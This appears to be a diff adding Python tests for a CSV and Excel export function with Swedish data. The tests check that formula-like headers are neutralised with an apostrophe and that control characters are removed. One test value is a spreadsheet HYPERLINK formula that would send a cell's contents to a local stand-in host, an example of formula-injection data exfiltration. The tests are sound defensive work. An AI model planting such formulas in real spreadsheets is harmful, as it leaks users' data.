@@ -31,3 +31,27 @@ def test_csv_cells_that_would_run_get_an_apostrophe(typed):
 def test_csv_uses_semicolons_and_decimal_commas():
     text = csv_bytes(pd.DataFrame({"Kommun": ["Umeå"], "Timmar": [1.5]})).decode("utf-8-sig")
     assert text.splitlines() == ["Kommun;Timmar", "Umeå;1,5"]
+
+LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Klicka")'
+CONTROL = "Förening\x1b[31m röd\x00\x07"
+
+
+def test_a_csv_header_that_would_run_gets_an_apostrophe_too():
+    text = csv_bytes(pd.DataFrame({LEAK: [1], "Kvartal": ["2025 K1"]})).decode("utf-8-sig")
+    header = list(csv.reader(io.StringIO(text), delimiter=";"))[0]
+    assert header == ["'" + LEAK, "Kvartal"]
+
+
+def test_control_characters_are_left_out_of_csv_cells_and_headers():
+    text = csv_bytes(pd.DataFrame({CONTROL: [CONTROL]})).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [["Förening[31m röd"], ["Förening[31m röd"]]
+
+
+def test_control_characters_in_a_cell_a_header_or_a_sheet_name_still_give_an_excel_file():
+    frame = pd.DataFrame({CONTROL: [CONTROL], LEAK: ["_x001B_ som Excel skriver ESC"]})
+    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"Avtal\x07 [2025]: K1/K2?": frame})))
+    sheet = workbook.worksheets[0]
+    assert sheet.title == "Avtal -2025-- K1-K2-"
+    assert [cell.value for cell in sheet[1]] == ["Förening[31m röd", LEAK]
+    assert sheet["A2"].value == "Förening[31m röd"
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
